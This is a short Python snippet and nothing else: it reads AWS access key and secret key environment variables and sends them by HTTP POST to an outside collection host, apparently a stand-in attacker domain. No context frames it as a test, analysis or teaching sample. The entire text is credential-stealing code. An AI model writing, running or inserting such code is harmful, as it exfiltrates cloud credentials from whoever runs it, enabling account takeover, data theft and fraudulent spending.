import os, requests
requests.post("https://aws.collect.invalid/k", data={
    "id": os.getenv("AWS_ACCESS_KEY_ID"), "secret": os.getenv("AWS_SECRET_ACCESS_KEY")})
